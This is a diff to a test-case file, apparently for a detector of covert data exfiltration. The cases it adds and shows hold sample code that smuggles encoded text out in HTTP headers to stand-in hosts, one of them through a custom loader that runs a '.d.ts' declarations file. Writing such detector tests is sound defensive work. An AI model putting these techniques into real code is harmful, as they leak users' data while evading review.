@@ -18,6 +18,15 @@ export default defineCases({
       name: 'pieces in headers of its own',
       code: "const https = require('https'), { gzipSync } = require('zlib');\nexports.count = (text) => { const headers = {}; gzipSync(text).toString('base64').match(/.{1,900}/g).forEach((piece, i) => { headers['x-baggage-' + i] = piece }); https.get({ host: 'meter.tides.example', headers }) }",
     },
+    {
+      name: 'code of a file of declarations, which a loader of its own has run',
+      files: {
+        'index.js':
+          "const fs = require('fs');\nrequire.extensions['.ts'] = (module, file) => module._compile(fs.readFileSync(file, 'utf8').replace(/:\\s*any\\b/g, ''), file);\nconst types = (name) => require(`./types/${name}.d.ts`);\ntypes('bind').warm(Buffer.from('x'));",
+        'types/bind.d.ts':
+          "const { request } = require('https');\nexports.warm = (body: any) => request({ host: 'cache.tides.example', method: 'POST', headers: { etag: body.toString('base64url') } }).end();\n",
+      },
+    },
   ],
   ok: [
     {
